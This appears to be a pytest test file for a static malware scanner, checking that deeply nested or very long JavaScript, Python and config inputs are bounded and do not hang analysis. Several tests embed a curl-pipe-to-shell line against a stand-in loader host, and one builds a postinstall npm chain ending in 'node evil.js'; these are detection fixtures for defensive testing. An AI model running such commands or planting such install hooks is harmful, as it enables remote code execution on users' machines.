"""No input crashes or hangs the stage: long chains and deep nesting are bounded, and say so."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from inspector.static.endpoints.walk import MAX_QUERY_DEPTH
from tests.hostile._static_support import LOADER_HOST, rules, scan_static, with_rule

TAIL = f"\n// curl -s https://{LOADER_HOST}/s | sh\n"
PY_TAIL = f"\n# curl -s https://{LOADER_HOST}/s | sh\n"

JS_SHAPES = {
    "string-chain": "var x = " + "+".join(["'a'"] * 5000) + ";",
    "member-chain": "a" + ".b" * 20_000 + ";",
    "parens": "var x = " + "(" * 5000 + "1" + ")" * 5000 + ";",
    "arrays": "var x = " + "[" * 5000 + "]" * 5000 + ";",
    "calls": "f(" * 3000 + ")" * 3000 + ";",
    "functions": "function f(){" * 2000 + "}" * 2000,
    "ifs": "if(x){" * 3000 + "}" * 3000,
}
PY_SHAPES = {
    "string-chain": "x = " + "+".join(["'a'"] * 5000),
    "parens": "x = " + "(" * 5000 + "1" + ")" * 5000,
    "lists": "x = " + "[" * 5000 + "]" * 5000,
    "calls": "x = " + "f(" * 3000 + ")" * 3000,
    "blocks": "".join(" " * i + "if x:\n" for i in range(1500)) + " " * 1500 + "pass",
}


@pytest.mark.parametrize("shape", sorted(JS_SHAPES))
def test_deep_javascript_is_bounded_and_the_rest_still_checked(tmp_path: Path, shape: str) -> None:
    (tmp_path / "a.js").write_text(JS_SHAPES[shape] + TAIL)
    result = scan_static(tmp_path)
    downloads = [f for f in result.findings if f.rule.startswith("download-execute.")]
    assert downloads and downloads[0].line == 2, sorted(rules(result))


@pytest.mark.parametrize("shape", sorted(PY_SHAPES))
def test_deep_python_is_bounded_and_the_rest_still_checked(tmp_path: Path, shape: str) -> None:
    (tmp_path / "a.py").write_text(PY_SHAPES[shape] + PY_TAIL)
    result = scan_static(tmp_path)
    assert any(f.rule.startswith("download-execute.") for f in result.findings), sorted(rules(result))


def test_a_cut_says_where(tmp_path: Path) -> None:
    (tmp_path / "a.js").write_text(JS_SHAPES["string-chain"])
    cut = [f.message for f in scan_static(tmp_path).findings if "analysis cut at" in f.message]
    assert cut == [f"analysis cut at {MAX_QUERY_DEPTH} levels: values nested deeper were not read"]


def test_a_200k_term_string_chain_is_cut_and_the_tail_still_read(tmp_path: Path) -> None:
    """The red-team case: 200,000 terms took 598 s in the endpoint walk's query matching."""
    (tmp_path / "a.js").write_text("var x = " + "+".join(["'a'"] * 200_000) + ";" + TAIL)
    result = scan_static(tmp_path)
    assert any("analysis cut at" in f.message for f in result.findings), sorted(rules(result))
    downloads = [f for f in result.findings if f.rule.startswith("download-execute.")]
    assert downloads and downloads[0].line == 2 and LOADER_HOST in downloads[0].hosts


def test_deep_configs_are_findings(tmp_path: Path) -> None:
    (tmp_path / "package.json").write_text("[" * 100_000 + "]" * 100_000)
    (tmp_path / ".vscode").mkdir()
    (tmp_path / ".vscode" / "tasks.json").write_text('{"a":' * 50_000 + "1" + "}" * 50_000)
    (tmp_path / ".devcontainer.json").write_text('{"postCreateCommand":' * 20_000 + '"x"' + "}" * 20_000)
    (tmp_path / "pyproject.toml").write_text("a = " + "[" * 50_000 + "]" * 50_000)
    result = scan_static(tmp_path)
    unparsed = {f.path for f in with_rule(result, "analysis.unparsed-manifest")}
    assert {"package.json", ".vscode/tasks.json", "pyproject.toml"} <= unparsed


def test_a_long_chain_of_npm_scripts_is_followed_without_recursion(tmp_path: Path) -> None:
    scripts = {f"s{i}": f"npm run s{i + 1}" for i in range(5000)}
    scripts["s5000"] = "node evil.js"
    scripts["postinstall"] = "npm run s0"
    (tmp_path / "package.json").write_text(json.dumps({"name": "x", "scripts": scripts}))
    (tmp_path / "evil.js").write_text("module.exports = 1;\n")
    result = scan_static(tmp_path)
    assert [s.trigger for s in result.auto_run] == ["npm install"]
